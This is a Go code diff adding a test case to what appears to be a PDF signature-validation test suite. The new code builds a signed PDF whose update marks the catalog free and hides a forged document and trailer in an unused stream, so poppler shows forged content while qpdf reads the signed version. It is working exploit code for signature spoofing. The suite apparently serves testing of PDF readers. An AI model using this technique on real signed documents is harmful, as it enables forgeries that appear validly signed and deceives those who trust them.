@@ -117,6 +117,11 @@ func structure(p *PKI, b *Base) ([]Case, error) {
 				Evidence{Hides: b.Marker})
 		},
 		func() ([]Case, error) {
+			doc, err := hiddenCatalog(b.PDF)
+			return attack(ClassStructure, b, "catalog free in a hybrid table, a forged document and trailer hidden in an unused stream", doc, err,
+				Evidence{Shows: ForgedText, Hides: b.Marker})
+		},
+		func() ([]Case, error) {
 			doc, err := encryptedLater(b.PDF)
 			return attack(ClassStructure, b, "/Encrypt (RC4, empty user password) added by an update", doc, err, Evidence{Hides: b.Marker, Renders: true})
 		},
@@ -343,6 +348,49 @@ func higherGenerationFirst(doc []byte) ([]byte, error) {
 		return nil, err
 	}
 	return fmt.Appendf(out, "%d 1 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")), page.Contents, signed), nil
+}
+
+// hiddenCatalog appends to doc a hybrid-reference update whose table
+// marks the catalog free while its /XRefStm stream lists the catalog in
+// use where it is, and after it an unused stream whose data holds, on
+// lines of their own, a forged one-page document (catalog, page tree,
+// page, content, numbered from 9001) and a trailer naming its catalog.
+// qpdf and kyso read the signed document. poppler, failing to fetch the
+// free catalog, rebuilds the table line by line before it reads the
+// catalog, takes the last trailer's /Root, the hidden one, and shows the
+// forged document.
+func hiddenCatalog(doc []byte) ([]byte, error) {
+	root, err := RootID(doc)
+	if err != nil {
+		return nil, err
+	}
+	signedAt := bytes.LastIndex(doc, fmt.Appendf(nil, "\n%d 0 obj", root))
+	if signedAt < 0 {
+		return nil, errors.New("the catalog is not a plain object")
+	}
+	n, err := Size(doc)
+	if err != nil {
+		return nil, err
+	}
+	out, err := Append(doc, Update{Form: Hybrid, Objects: map[int]string{n: "<< /Unused true >>"}, Remap: map[int]int64{root: int64(signedAt + 1)}})
+	if err != nil {
+		return nil, err
+	}
+	table := bytes.LastIndex(out, []byte("\nxref\n"))
+	if table < 0 {
+		return nil, errors.New("no table in the update")
+	}
+	table += len("\nxref\n")
+	out = append(append(bytes.Clone(out[:table]), fmt.Sprintf("%d 1\n0000000000 00001 f\r\n", root)...), out[table:]...)
+	forged := strings.Join([]string{
+		"9001 0 obj\n<< /Type /Catalog /Pages 9002 0 R >>\nendobj",
+		"9002 0 obj\n<< /Type /Pages /Kids [9003 0 R] /Count 1 >>\nendobj",
+		"9003 0 obj\n<< /Type /Page /Parent 9002 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 9005 0 R >> >> /Contents 9004 0 R >>\nendobj",
+		"9004 0 obj\n" + Stream("", forgedContent("F1")) + "\nendobj",
+		"9005 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>\nendobj",
+		"trailer\n<< /Size 9006 /Root 9001 0 R >>",
+	}, "\n")
+	return fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", n+2, Stream("", "\n"+forged+"\n")), nil
 }
 
 // passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
